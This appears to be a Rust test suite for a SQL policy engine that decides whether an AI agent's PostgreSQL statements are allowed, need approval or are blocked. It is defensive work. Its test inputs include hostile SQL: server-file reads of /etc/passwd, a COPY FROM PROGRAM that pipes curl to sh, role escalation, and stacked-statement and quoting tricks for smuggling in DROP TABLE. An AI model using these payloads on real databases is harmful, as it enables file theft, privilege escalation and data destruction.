//! Classification and decisions of the built-in policies, statement by statement: every blocking
//! class, smuggling attempts, comments, case and quoting tricks, and the extended protocol.

mod policy_corpus;

use policy_corpus::{CORPUS, mangle_from};
use portcullis::policy::{
    self, Action, ClassifyCache, Identity, Kind, Policy, Request, Risk, TargetRef, Verdict,
};

fn default_policy() -> Policy {
    policy::load("default").expect("built-in default policy loads")
}

fn decide_with(p: &Policy, sql: &str) -> Verdict {
    let groups = Vec::new();
    let id = Identity {
        agent: Some("claude"),
        groups: &groups,
        ..Identity::default()
    };
    let target = TargetRef {
        name: "prod",
        database: "app",
    };
    p.decide(
        &id,
        &target,
        &Request::Query(sql),
        &mut ClassifyCache::new(16),
    )
}

/// Asserts the verdict of the default policy for each statement, with the rule that decides.
fn expect(cases: &[(&str, Action, &str)]) {
    let p = default_policy();
    let mut failures = Vec::new();
    for (sql, action, rule) in cases {
        let v = decide_with(&p, sql);
        if v.action != *action || &*v.rule != *rule {
            failures.push(format!(
                "{sql:?}: got {} by {} ({}), want {action} by {rule}; class {:?}",
                v.action, v.rule, v.reason, v.class.statements
            ));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

fn risks_of(sql: &str) -> Vec<Risk> {
    policy::classify::classify(sql).risks().iter().collect()
}

fn kind_of(sql: &str) -> Kind {
    policy::classify::classify(sql).kind()
}

fn objects_of(sql: &str) -> Vec<String> {
    policy::classify::classify(sql)
        .objects()
        .into_iter()
        .map(str::to_owned)
        .collect()
}

use Action::{Allow, Approve, Block};

#[test]
fn reads_are_allowed() {
    expect(&[
        ("SELECT 1", Allow, "reads"),
        ("select * from users where id = 1", Allow, "reads"),
        (
            "SELECT a, count(*) FROM t JOIN u ON t.id = u.tid GROUP BY a",
            Allow,
            "reads",
        ),
        ("WITH c AS (SELECT 1) SELECT * FROM c", Allow, "reads"),
        ("VALUES (1), (2)", Allow, "reads"),
        ("SHOW search_path", Allow, "reads"),
        ("COPY t TO STDOUT", Allow, "reads"),
        (
            "COPY (SELECT * FROM t WHERE a > 1) TO STDOUT WITH (FORMAT csv)",
            Allow,
            "reads",
        ),
        ("EXPLAIN SELECT * FROM t", Allow, "reads"),
        ("SELECT * FROM t FOR UPDATE", Allow, "reads"),
        ("DECLARE c CURSOR FOR SELECT * FROM t", Allow, "reads"),
        ("FETCH 10 FROM c", Allow, "reads"),
        ("SELECT 1 UNION SELECT 2 EXCEPT SELECT 3", Allow, "reads"),
        ("SELECT nextval('s')", Allow, "reads"),
        ("SELECT current_setting('search_path')", Allow, "reads"),
        ("TABLE t", Allow, "reads"),
        ("table s.t ORDER BY 1 LIMIT 5", Allow, "reads"),
    ]);
}

#[test]
fn session_statements_are_allowed() {
    expect(&[
        ("BEGIN", Allow, "reads"),
        ("BEGIN ISOLATION LEVEL SERIALIZABLE", Allow, "reads"),
        ("START TRANSACTION READ ONLY", Allow, "reads"),
        ("COMMIT", Allow, "reads"),
        ("ROLLBACK", Allow, "reads"),
        ("SAVEPOINT a", Allow, "reads"),
        ("RELEASE SAVEPOINT a", Allow, "reads"),
        ("ROLLBACK TO SAVEPOINT a", Allow, "reads"),
        ("SET search_path = public, app", Allow, "reads"),
        ("SET extra_float_digits = 3", Allow, "reads"),
        ("SET application_name = 'psql'", Allow, "reads"),
        ("SET app.user_id = '42'", Allow, "reads"),
        ("SET myext.role = 'x'", Allow, "reads"),
        ("SET TIME ZONE 'UTC'", Allow, "reads"),
        (
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
            Allow,
            "reads",
        ),
        ("SET standard_conforming_strings = on", Allow, "reads"),
        ("SET client_encoding = 'UTF8'", Allow, "reads"),
        ("SET NAMES 'utf8'", Allow, "reads"),
        ("SET ROLE NONE", Allow, "reads"),
        ("RESET ALL", Allow, "reads"),
        ("RESET ROLE", Allow, "reads"),
        ("DISCARD ALL", Allow, "reads"),
        ("DEALLOCATE p", Allow, "reads"),
        ("LISTEN jobs", Allow, "reads"),
        ("UNLISTEN *", Allow, "reads"),
        ("CLOSE c", Allow, "reads"),
        (
            "SELECT set_config('search_path', 'public', false)",
            Allow,
            "reads",
        ),
        (
            "SELECT pg_catalog.set_config('statement_timeout', '5s', true)",
            Allow,
            "reads",
        ),
    ]);
}

#[test]
fn writes_need_approval() {
    expect(&[
        ("INSERT INTO t (a) VALUES (1)", Approve, "writes"),
        (
            "INSERT INTO s.t SELECT * FROM u ON CONFLICT DO NOTHING",
            Approve,
            "writes",
        ),
        ("UPDATE t SET a = 1 WHERE id = 2", Approve, "writes"),
        ("DELETE FROM t WHERE id = 1", Approve, "writes"),
        ("DELETE FROM t USING u WHERE t.id = u.id", Approve, "writes"),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            Approve,
            "writes",
        ),
        ("COPY t FROM STDIN", Approve, "writes"),
        (
            "COPY t (a, b) FROM STDIN WITH (FORMAT csv)",
            Approve,
            "writes",
        ),
        ("SELECT setval('s', 1)", Approve, "writes"),
        ("SELECT lo_unlink(1234)", Approve, "writes"),
        ("EXECUTE p", Approve, "writes"),
        ("EXECUTE p(1, 2)", Approve, "writes"),
        ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", Approve, "writes"),
        ("REFRESH MATERIALIZED VIEW v", Approve, "writes"),
    ]);
}

#[test]
fn writes_hidden_in_reads_are_writes() {
    expect(&[
        // Data-modifying CTEs execute even though the statement reads.
        (
            "WITH x AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM x",
            Approve,
            "writes",
        ),
        (
            "WITH x AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT 1",
            Approve,
            "writes",
        ),
        (
            "WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x",
            Approve,
            "writes",
        ),
        (
            "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
            Approve,
            "bulk-writes",
        ),
        // EXPLAIN ANALYZE runs the statement.
        (
            "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1",
            Approve,
            "writes",
        ),
        (
            "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1",
            Approve,
            "writes",
        ),
        (
            "EXPLAIN (ANALYZE true) INSERT INTO t VALUES (1)",
            Approve,
            "writes",
        ),
        (
            "EXPLAIN (ANALYZE on, FORMAT json) DELETE FROM t",
            Approve,
            "bulk-writes",
        ),
        (
            "explain analyze verbose delete from t where id = 1",
            Approve,
            "writes",
        ),
        // PREPARE stores the statement for EXECUTE: it is judged by what it prepares.
        (
            "PREPARE p AS DELETE FROM t WHERE id = $1",
            Approve,
            "writes",
        ),
        ("PREPARE p AS DROP TABLE t", Block, "no-ddl"),
    ]);
    // Plain EXPLAIN does not execute what it explains.
    expect(&[
        ("EXPLAIN DELETE FROM t", Allow, "reads"),
        ("EXPLAIN (ANALYZE false) DELETE FROM t", Allow, "reads"),
        ("EXPLAIN (ANALYZE off) UPDATE t SET a = 1", Allow, "reads"),
        (
            "EXPLAIN (FORMAT json) INSERT INTO t VALUES (1)",
            Allow,
            "reads",
        ),
    ]);
}

#[test]
fn bulk_writes_are_flagged() {
    expect(&[
        ("DELETE FROM t", Approve, "bulk-writes"),
        ("DELETE FROM t WHERE true", Approve, "bulk-writes"),
        ("DELETE FROM t WHERE 1 = 1", Approve, "bulk-writes"),
        ("delete from t where 'a' = 'a'", Approve, "bulk-writes"),
        ("UPDATE t SET a = 1", Approve, "bulk-writes"),
        ("UPDATE t SET a = 1 WHERE 1 = 1", Approve, "bulk-writes"),
        ("TRUNCATE t", Approve, "bulk-writes"),
        ("TRUNCATE TABLE a, b CASCADE", Approve, "bulk-writes"),
    ]);
    assert_eq!(risks_of("DELETE FROM t"), vec![Risk::DeleteWithoutWhere]);
    assert_eq!(
        risks_of("UPDATE t SET a = 1"),
        vec![Risk::UpdateWithoutWhere]
    );
    assert_eq!(risks_of("TRUNCATE t"), vec![Risk::Truncate]);
    assert!(risks_of("DELETE FROM t WHERE id = $1").is_empty());
    assert!(risks_of("UPDATE t SET a = 1 WHERE t.id = 3").is_empty());
}

#[test]
fn ddl_is_blocked() {
    expect(&[
        ("CREATE TABLE x (a int)", Block, "no-ddl"),
        ("CREATE TEMP TABLE x (a int)", Block, "no-ddl"),
        ("CREATE TABLE x AS SELECT * FROM t", Block, "no-ddl"),
        ("SELECT * INTO newt FROM t", Block, "no-ddl"),
        ("CREATE INDEX i ON t (a)", Block, "no-ddl"),
        ("CREATE VIEW v AS SELECT 1", Block, "no-ddl"),
        ("CREATE SCHEMA s", Block, "no-ddl"),
        ("CREATE SEQUENCE s", Block, "no-ddl"),
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$",
            Block,
            "no-ddl",
        ),
        ("CREATE EXTENSION dblink", Block, "no-ddl"),
        ("COMMENT ON TABLE t IS 'x'", Block, "no-ddl"),
        ("DROP TABLE t", Block, "no-ddl"),
        ("DROP TABLE IF EXISTS a, b CASCADE", Block, "no-ddl"),
        ("drop view v", Block, "no-ddl"),
        ("DROP INDEX i", Block, "no-ddl"),
        ("DROP FUNCTION f", Block, "no-ddl"),
        ("DROP SCHEMA s CASCADE", Block, "no-ddl"),
        ("ALTER TABLE t ADD COLUMN b int", Block, "no-ddl"),
        ("ALTER TABLE t RENAME TO u", Block, "no-ddl"),
        ("ALTER TABLE t DROP COLUMN b", Block, "no-ddl"),
        (
            "CREATE OR REPLACE RULE r AS ON SELECT TO t DO INSTEAD SELECT 1",
            Block,
            "no-ddl",
        ),
        (
            "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
            Block,
            "no-ddl",
        ),
    ]);
    assert!(risks_of("DROP TABLE t").contains(&Risk::Drop));
    assert!(risks_of("ALTER TABLE t ADD COLUMN b int").contains(&Risk::Alter));
    assert_eq!(kind_of("SELECT * INTO newt FROM t"), Kind::Ddl);
    assert_eq!(
        objects_of("SELECT * INTO newt FROM t"),
        ["public.newt", "public.t"]
    );
    assert_eq!(objects_of("DROP TABLE a.b, c"), ["a.b", "public.c"]);
}

#[test]
fn dcl_is_blocked() {
    expect(&[
        ("GRANT SELECT ON t TO bob", Block, "no-dcl"),
        (
            "GRANT ALL ON ALL TABLES IN SCHEMA public TO bob",
            Block,
            "no-dcl",
        ),
        ("REVOKE ALL ON t FROM bob", Block, "no-dcl"),
        ("CREATE ROLE x", Block, "no-dcl"),
        ("CREATE USER x WITH PASSWORD 'p'", Block, "no-dcl"),
        ("ALTER ROLE app SUPERUSER", Block, "no-dcl"),
        ("ALTER USER app WITH PASSWORD 'x'", Block, "no-dcl"),
        ("DROP ROLE x", Block, "no-dcl"),
        ("DROP USER x", Block, "no-dcl"),
        (
            "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
            Block,
            "no-dcl",
        ),
        ("REASSIGN OWNED BY a TO b", Block, "no-dcl"),
        ("DROP OWNED BY a", Block, "no-dcl"),
    ]);
    assert!(risks_of("GRANT SELECT ON t TO bob").contains(&Risk::Grant));
    assert!(risks_of("REVOKE ALL ON t FROM bob").contains(&Risk::Revoke));
    assert_eq!(objects_of("GRANT SELECT ON s.t TO bob"), ["s.t"]);
}

#[test]
fn administration_is_blocked() {
    expect(&[
        ("VACUUM t", Block, "no-admin"),
        ("VACUUM FULL", Block, "no-admin"),
        ("ANALYZE t", Block, "no-admin"),
        ("CHECKPOINT", Block, "no-admin"),
        ("ALTER SYSTEM SET work_mem = '1GB'", Block, "no-admin"),
        ("LOAD 'auto_explain'", Block, "no-admin"),
        ("REINDEX TABLE t", Block, "no-admin"),
        ("CLUSTER t USING i", Block, "no-admin"),
    ]);
}

#[test]
fn dangerous_functions_are_blocked_anywhere() {
    let cases = [
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT pg_read_binary_file('/etc/passwd')",
        "SELECT pg_stat_file('/etc/passwd')",
        "SELECT * FROM pg_ls_dir('.')",
        "SELECT pg_ls_waldir()",
        "SELECT * FROM LATERAL pg_ls_dir('.') AS x",
        "SELECT lo_import('/etc/passwd')",
        "SELECT lo_export(1234, '/tmp/x')",
        "SELECT pg_terminate_backend(123)",
        "SELECT pg_cancel_backend(pid) FROM pg_stat_activity",
        "SELECT pg_reload_conf()",
        "SELECT pg_rotate_logfile()",
        "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
        "SELECT dblink_exec('host=x', 'drop table t')",
        "SELECT dblink_connect('c', 'host=x')",
        "SELECT query_to_xml('select pg_read_file(''x'')', true, false, '')",
        "SELECT pg_file_write('x', 'y', false)",
        "SELECT pg_logical_emit_message(true, 'x', 'y')",
        "SELECT pg_create_logical_replication_slot('s', 'pgoutput')",
        "SELECT pg_stat_reset()",
        // In every corner of a statement.
        "SELECT 1 FROM t WHERE a = (SELECT pg_read_file('x'))",
        "SELECT 1 FROM t WHERE EXISTS (SELECT lo_export(1, '/tmp/x'))",
        "SELECT count(*) FROM t GROUP BY pg_read_file('x')",
        "SELECT * FROM t ORDER BY pg_read_file(a)",
        "SELECT * FROM t HAVING max(pg_read_file('x')) > ''",
        "SELECT coalesce(NULL, pg_read_file('x'))",
        "SELECT CASE WHEN true THEN pg_read_file('x') END",
        "SELECT ARRAY[pg_read_file('x')]",
        "SELECT (pg_read_file('x'))::text",
        "SELECT length(upper(pg_read_file('x')))",
        "SELECT * FROM (SELECT pg_read_file('x')) s",
        "WITH a AS (SELECT pg_read_file('x')) SELECT * FROM a",
        "SELECT 1 UNION SELECT length(pg_read_file('x'))",
        "INSERT INTO t SELECT pg_read_file('x')",
        "UPDATE t SET a = pg_read_file('x') WHERE id = 1",
        "DELETE FROM t WHERE a = pg_read_file('x')",
        "COPY (SELECT pg_read_file('x')) TO STDOUT",
        "VALUES (pg_read_file('x'))",
        "SELECT * FROM t WHERE a IN (SELECT pg_ls_dir('.'))",
        // The planner may evaluate functions, so plain EXPLAIN does not make them safe.
        "EXPLAIN SELECT pg_read_file('x')",
        // Case, quoting and schema qualification as PostgreSQL resolves them.
        "SELECT PG_READ_FILE('/etc/passwd')",
        "SELECT Pg_Read_File('/etc/passwd')",
        "SELECT \"pg_read_file\"('/etc/passwd')",
        "SELECT pg_catalog.pg_read_file('/etc/passwd')",
        "SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')",
        "SELECT \"pg_catalog\".\"pg_read_file\"('/etc/passwd')",
        "SELECT app.pg_catalog.pg_read_file('/etc/passwd')",
        "SELECT evil.pg_read_file('/etc/passwd')",
        "SELECT pg_read_file /* comment */ ('/etc/passwd')",
        "SELECT pg_read_file\n(\n'/etc/passwd'\n)",
        // set_config with a name the classifier cannot read.
        "SELECT set_config(current_setting('x'), 'y', false)",
        "SELECT set_config(name, 'on', false) FROM settings",
    ];
    let p = default_policy();
    for sql in cases {
        let v = decide_with(&p, sql);
        assert_eq!((v.action, &*v.rule), (Block, "dangerous"), "{sql}: {v:?}");
        assert!(
            v.class.risks().contains(Risk::DangerousFunction),
            "{sql}: {:?}",
            v.class
        );
    }
}

#[test]
fn quoted_identifiers_resolve_exactly() {
    // PostgreSQL folds unquoted names to lower case but takes quoted ones as written:
    // "PG_READ_FILE" is some other (user-defined) function, not pg_read_file.
    assert!(risks_of("SELECT \"PG_READ_FILE\"('x')").is_empty());
    assert!(risks_of("SELECT \"Pg_Read_File\"('x')").is_empty());
    let c = policy::classify::classify("SELECT \"pg_read_file\"('x')");
    assert_eq!(c.statements[0].functions, ["pg_read_file"]);
    assert_eq!(objects_of("SELECT * FROM \"Users\""), ["public.Users"]);
    assert_eq!(objects_of("SELECT * FROM USERS"), ["public.users"]);
    assert_eq!(objects_of("SELECT * FROM App.Public.T"), ["public.t"]);
    assert_eq!(
        objects_of("SELECT * FROM pg_class"),
        ["pg_catalog.pg_class"]
    );
    assert_eq!(
        objects_of("WITH c AS (SELECT * FROM s.t) SELECT * FROM c JOIN u ON true"),
        ["public.u", "s.t"]
    );
}

#[test]
fn copy_to_or_from_the_server_is_blocked() {
    expect(&[
        ("COPY t TO PROGRAM 'id'", Block, "dangerous"),
        (
            "COPY t FROM PROGRAM 'curl http://x | sh'",
            Block,
            "dangerous",
        ),
        (
            "COPY (SELECT 1) TO PROGRAM 'cat > /tmp/x'",
            Block,
            "dangerous",
        ),
        ("COPY t TO '/tmp/t.csv'", Block, "dangerous"),
        ("COPY t FROM '/etc/passwd'", Block, "dangerous"),
        (
            "copy t from '/etc/passwd' with (format text)",
            Block,
            "dangerous",
        ),
        ("COPY (SELECT * FROM t) TO '/tmp/x'", Block, "dangerous"),
    ]);
    assert!(risks_of("COPY t TO PROGRAM 'id'").contains(&Risk::CopyProgram));
    assert!(risks_of("COPY t FROM '/etc/passwd'").contains(&Risk::CopyFile));
    assert!(risks_of("COPY t TO STDOUT").is_empty());
    assert!(risks_of("COPY t FROM STDIN").is_empty());
}

#[test]
fn identity_changes_are_blocked() {
    expect(&[
        ("SET ROLE postgres", Block, "dangerous"),
        ("SET LOCAL ROLE postgres", Block, "dangerous"),
        ("SET SESSION ROLE postgres", Block, "dangerous"),
        ("SET role = 'postgres'", Block, "dangerous"),
        ("set ROLE to postgres", Block, "dangerous"),
        ("SET \"role\" = 'postgres'", Block, "dangerous"),
        ("SET SESSION AUTHORIZATION postgres", Block, "dangerous"),
        ("SET SESSION AUTHORIZATION DEFAULT", Block, "dangerous"),
        (
            "SET LOCAL SESSION AUTHORIZATION 'postgres'",
            Block,
            "dangerous",
        ),
        ("SET session_authorization = 'postgres'", Block, "dangerous"),
        (
            "SELECT set_config('role', 'postgres', false)",
            Block,
            "dangerous",
        ),
        (
            "SELECT set_config('ROLE', 'postgres', false)",
            Block,
            "dangerous",
        ),
        (
            "SELECT set_config('session_authorization', 'postgres', false)",
            Block,
            "dangerous",
        ),
    ]);
    assert_eq!(risks_of("SET ROLE postgres"), vec![Risk::SetRole]);
    assert_eq!(
        risks_of("SET SESSION AUTHORIZATION postgres"),
        vec![Risk::SetSessionAuthorization]
    );
}

#[test]
fn settings_that_change_how_sql_is_read_are_blocked() {
    // With standard_conforming_strings off, PostgreSQL reads `'a\''; DROP TABLE t; --'` as a
    // string followed by DROP, while the classifier (and a conforming server) sees one string.
    expect(&[
        ("SET standard_conforming_strings = off", Block, "dangerous"),
        (
            "SET standard_conforming_strings TO 'off'",
            Block,
            "dangerous",
        ),
        ("SET standard_conforming_strings = 0", Block, "dangerous"),
        (
            "SET LOCAL standard_conforming_strings = false",
            Block,
            "dangerous",
        ),
        (
            "SELECT set_config('standard_conforming_strings', 'off', false)",
            Block,
            "dangerous",
        ),
        (
            "SELECT set_config('standard_conforming_strings', $1, false)",
            Block,
            "dangerous",
        ),
        ("SET client_encoding = 'SJIS'", Block, "dangerous"),
        ("SET client_encoding TO 'GBK'", Block, "dangerous"),
        ("SET NAMES 'BIG5'", Block, "dangerous"),
        (
            "SELECT set_config('client_encoding', 'SJIS', false)",
            Block,
            "dangerous",
        ),
        ("SET session_replication_role = replica", Block, "dangerous"),
    ]);
    assert_eq!(
        risks_of("SET standard_conforming_strings = off"),
        vec![Risk::UnsafeSetting]
    );
}

#[test]
fn do_blocks_are_blocked() {
    expect(&[
        (
            "DO $$ BEGIN PERFORM pg_sleep(1); END $$",
            Block,
            "dangerous",
        ),
        ("do 'begin null; end'", Block, "dangerous"),
        ("DO LANGUAGE plpgsql $$ BEGIN END $$", Block, "dangerous"),
        ("SELECT 1; DO $$ BEGIN END $$", Block, "dangerous"),
    ]);
    assert_eq!(risks_of("DO $$ BEGIN END $$"), vec![Risk::DoBlock]);
}

#[test]
fn calls_of_unlisted_procedures_are_blocked() {
    expect(&[
        ("CALL refresh_stats()", Block, "dangerous"),
        ("CALL app.transfer(1, 2, 100)", Block, "dangerous"),
        ("CALL pg_read_file('x')", Block, "dangerous"),
    ]);
    let c = policy::classify::classify("CALL App.\"Transfer\"(1)");
    assert_eq!(c.statements[0].procedures, ["app.Transfer"]);
    assert_eq!(c.kind(), Kind::Write);
}

#[test]
fn smuggled_statements_get_the_most_severe_verdict() {
    expect(&[
        ("SELECT 1; DROP TABLE t", Block, "no-ddl"),
        ("SELECT 1;DROP TABLE t;", Block, "no-ddl"),
        ("select 1; select pg_read_file('x')", Block, "dangerous"),
        ("SELECT 1; DELETE FROM t WHERE id = 1", Approve, "writes"),
        (
            "DELETE FROM t WHERE id = 1; DROP TABLE t; SELECT 1",
            Block,
            "no-ddl",
        ),
        ("BEGIN; DROP TABLE t; COMMIT", Block, "no-ddl"),
        ("SELECT 1;;; DROP TABLE t", Block, "no-ddl"),
        ("SeLeCt 1; dRoP tAbLe T", Block, "no-ddl"),
        ("SELECT 1\n;\nDROP\nTABLE\nt", Block, "no-ddl"),
        ("SELECT 1; GRANT ALL ON t TO public", Block, "no-dcl"),
        ("SELECT 1; SELECT 2; SET ROLE postgres", Block, "dangerous"),
        ("SELECT \"a;b\" FROM t; DROP TABLE t", Block, "no-ddl"),
        ("SELECT 'x'; DROP TABLE t", Block, "no-ddl"),
        ("SELECT 'it''s'; DROP TABLE t", Block, "no-ddl"),
        ("SELECT $a$x$a$; DROP TABLE t", Block, "no-ddl"),
        // `E'\''` is one escaped quote: DROP is outside the string.
        ("SELECT E'\\''; DROP TABLE t; --'", Block, "no-ddl"),
        // `$` continues an identifier in PostgreSQL, so `foo$$` is a name, not a dollar quote.
        (
            "SELECT 1 AS foo$$; DROP TABLE t; SELECT $$x$$",
            Block,
            "no-ddl",
        ),
        // One unparsable statement makes the whole string unparsable.
        ("SELECT 1; SELEKT 2", Block, "unparsable"),
        // sqlparser takes what follows `COPY .. FROM STDIN;` as inline data; PostgreSQL runs it
        // after the copy.
        ("COPY t FROM STDIN; DROP TABLE t", Block, "no-ddl"),
        ("COPY t FROM STDIN;\nDROP TABLE t;\n\\.\n", Block, "no-ddl"),
        (
            "COPY t FROM STDIN; SELECT pg_read_file('x')",
            Block,
            "dangerous",
        ),
    ]);
    let v = decide_with(&default_policy(), "SELECT 1; DROP TABLE t");
    assert_eq!(
        v.error_message(),
        "portcullis: blocked by policy rule \"no-ddl\""
    );
    assert!(v.reason.contains("statement 2 of 2"), "{}", v.reason);
    assert!(v.reason.contains("DROP TABLE"), "{}", v.reason);
}

#[test]
fn comments_and_strings_hide_nothing_and_fake_nothing() {
    expect(&[
        // Statements inside comments and strings are not statements...
        ("/* DROP TABLE t */ SELECT 1", Allow, "reads"),
        ("-- DROP TABLE t\nSELECT 1", Allow, "reads"),
        ("SELECT 1 -- ; DROP TABLE t", Allow, "reads"),
        ("SELECT 1 /* ; DROP TABLE t; */", Allow, "reads"),
        ("SELECT '; DROP TABLE t; --'", Allow, "reads"),
        ("SELECT $$; DROP TABLE t; $$", Allow, "reads"),
        ("SELECT $a$; DROP TABLE t; $a$", Allow, "reads"),
        ("SELECT $a$ $$; DROP TABLE t; $$ $a$", Allow, "reads"),
        ("SELECT 'pg_read_file(''/etc/passwd'')'", Allow, "reads"),
        // PostgreSQL block comments nest: all of this is one comment.
        ("/* /* */ DROP TABLE t; */ SELECT 1", Allow, "reads"),
        // With standard_conforming_strings on (enforced above), a backslash is an ordinary
        // character and `''` is an escaped quote: this is one string, as PostgreSQL reads it.
        ("SELECT 'a\\''; DROP TABLE t; --'", Allow, "reads"),
        // ...and comments do not hide statements after them.
        ("SELECT 1 -- comment\n; DROP TABLE t", Block, "no-ddl"),
        ("SELECT /* ; */ 1; DROP TABLE t", Block, "no-ddl"),
        (
            "SELECT 1; /* x */ DROP /* y */ TABLE -- z\n t",
            Block,
            "no-ddl",
        ),
        ("DROP/**/TABLE/**/t", Block, "no-ddl"),
        // PostgreSQL ends a `--` comment at a carriage return too.
        ("SELECT 1 -- x\r; DROP TABLE t", Block, "no-ddl"),
        // `E'\\'` is one backslash: the string ends there.
        ("SELECT E'\\\\'; DROP TABLE t; --'", Block, "no-ddl"),
        // An unterminated comment or string is a syntax error for PostgreSQL too.
        ("SELECT 1 /* /* */ ; DROP TABLE t", Block, "unparsable"),
        ("SELECT 'unterminated; DROP TABLE t", Block, "unparsable"),
        ("SELECT $a$ unterminated; DROP TABLE t", Block, "unparsable"),
    ]);
}

#[test]
fn unicode_escaped_identifiers_are_refused() {
    // U&"\0070g_read_file" is pg_read_file to PostgreSQL; sqlparser would read `U & "..."`.
    expect(&[
        (
            "SELECT U&\"\\0070g_read_file\"('/etc/passwd')",
            Block,
            "unparsable",
        ),
        (
            "SELECT u&\"\\0070g_read_file\"('/etc/passwd')",
            Block,
            "unparsable",
        ),
        (
            "SELECT * FROM U&\"d\\0061t\\+000061\" UESCAPE '!'",
            Block,
            "unparsable",
        ),
    ]);
    // Unicode string literals are fine.
    expect(&[("SELECT U&'\\0070'", Allow, "reads")]);
}

#[test]
fn unparsable_sql_is_denied_by_default() {
    expect(&[
        ("SELEKT 1", Block, "unparsable"),
        ("SELECT * FROM", Block, "unparsable"),
        ("\u{0}", Block, "unparsable"),
    ]);
    let c = policy::classify::classify("SELEKT 1");
    assert_eq!(
        c.statements[0].risks.iter().collect::<Vec<_>>(),
        [Risk::Unparsable]
    );
    let v = decide_with(&default_policy(), "SELEKT 1");
    // The reason never quotes the text (it could hold a secret literal).
    assert!(!v.reason.contains("SELEKT"), "{}", v.reason);
}

#[test]
fn empty_queries_are_allowed() {
    for sql in ["", "  ", "-- nothing", "/* nothing */", ";", " ; ; "] {
        let v = decide_with(&default_policy(), sql);
        assert_eq!((v.action, &*v.rule), (Allow, "empty"), "{sql:?}");
        assert!(v.class.statements.is_empty());
    }
}

#[test]
fn parse_messages_are_classified_like_queries() {
    let p = default_policy();
    let groups = Vec::new();
    let id = Identity {
        agent: Some("claude"),
        groups: &groups,
        ..Identity::default()
    };
    let target = TargetRef {
        name: "prod",
        database: "app",
    };
    let mut cache = ClassifyCache::new(16);
    let mut decide = |sql| {
        p.decide(
            &id,
            &target,
            &Request::Parse {
                statement: "s1",
                sql,
            },
            &mut cache,
        )
    };
    assert_eq!(decide("SELECT * FROM t WHERE id = $1").action, Allow);
    assert_eq!(decide("DELETE FROM t WHERE id = $1").action, Approve);
    assert_eq!(decide("SELECT pg_read_file($1)").action, Block);
    assert_eq!(decide("DROP TABLE t").action, Block);
    assert_eq!(decide("").action, Allow);
}

#[test]
fn function_call_messages_are_blocked_unless_listed() {
    let p = default_policy();
    let groups = Vec::new();
    let id = Identity {
        agent: Some("claude"),
        groups: &groups,
        ..Identity::default()
    };
    let target = TargetRef {
        name: "prod",
        database: "app",
    };
    // 764 is lo_import.
    let v = p.decide(
        &id,
        &target,
        &Request::FunctionCall { oid: 764 },
        &mut ClassifyCache::new(1),
    );
    assert_eq!((v.action, &*v.rule), (Block, "function_call"));
    assert!(v.reason.contains("764"), "{}", v.reason);
    assert!(v.class.risks().contains(Risk::FunctionCall));

    let listed = policy::load_str("function_call_allow_oids = [954]\n", "test.toml", None).unwrap();
    let decide = |oid| {
        listed
            .decide(
                &id,
                &target,
                &Request::FunctionCall { oid },
                &mut ClassifyCache::new(1),
            )
            .action
    };
    assert_eq!(decide(954), Allow);
    assert_eq!(decide(764), Block);
}

#[test]
fn fingerprints_ignore_literals_comments_case_and_layout() {
    let fp = |s| policy::classify::classify(s).fingerprint;
    let a = fp("DELETE FROM t WHERE id = 5");
    assert_eq!(a, fp("delete   from t\nwhere id = 6 -- again"));
    assert_eq!(a, fp("DELETE FROM t WHERE id = $1"));
    assert_eq!(a, fp("/* x */ DELETE FROM T WHERE ID = 7;"));
    assert_ne!(a, fp("DELETE FROM u WHERE id = 5"));
    assert_ne!(a, fp("DELETE FROM t WHERE id = 5 OR true"));
    assert_ne!(a, fp("DELETE FROM \"T\" WHERE id = 5"));
    assert_eq!(fp("SELECT 'a'"), fp("SELECT 'b'"));
    assert_ne!(fp("SELECT 1"), fp("SELECT 1; SELECT 1"));
    // Stable across runs and builds: grants are stored on disk.
    assert_eq!(fp("SELECT 1"), fp("select 2"));
    assert_eq!(
        format!("{:016x}", fp("SELECT 1")),
        format!("{:016x}", fp("SELECT 42"))
    );
}

#[test]
fn cache_returns_the_same_classification_and_stays_bounded() {
    let mut cache = ClassifyCache::new(4);
    let a = cache.classify("SELECT 1");
    let b = cache.classify("SELECT 1");
    assert!(std::sync::Arc::ptr_eq(&a, &b));
    assert_eq!(cache.stats(), (1, 1));
    for i in 0..100 {
        let sql = format!("SELECT {i}");
        assert_eq!(cache.classify(&sql).kind(), Kind::Read);
        assert!(cache.len() <= 4);
    }
    // A hot entry survives a sweep of cold ones (second chance).
    let mut cache = ClassifyCache::new(4);
    let hot = cache.classify("SELECT hot");
    for i in 0..3 {
        cache.classify(&format!("SELECT {i}"));
    }
    cache.classify("SELECT hot");
    cache.classify("SELECT cold");
    assert!(std::sync::Arc::ptr_eq(&hot, &cache.classify("SELECT hot")));
    // Text past the size limit is classified but not kept.
    let mut cache = ClassifyCache::new(4);
    let big = format!("SELECT '{}'", "x".repeat(policy::classify::MAX_CACHED_TEXT));
    assert_eq!(cache.classify(&big).kind(), Kind::Read);
    assert!(cache.is_empty());
}

#[test]
fn deeply_nested_sql_is_refused_not_crashed() {
    let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
    let v = decide_with(&default_policy(), &deep);
    assert_eq!((v.action, &*v.rule), (Block, "unparsable"));
}

#[test]
fn observe_mode_enforces_nothing_and_reports_everything() {
    let default = default_policy();
    let observe = policy::load("observe").unwrap();
    assert_eq!(observe.name(), "observe");
    for sql in [
        "SELECT 1",
        "DELETE FROM t WHERE id = 1",
        "DELETE FROM t",
        "DROP TABLE t",
        "SELECT pg_read_file('x')",
        "SELEKT",
        "GRANT ALL ON t TO x",
        "VACUUM",
        "SET ROLE x",
        "",
    ] {
        let d = decide_with(&default, sql);
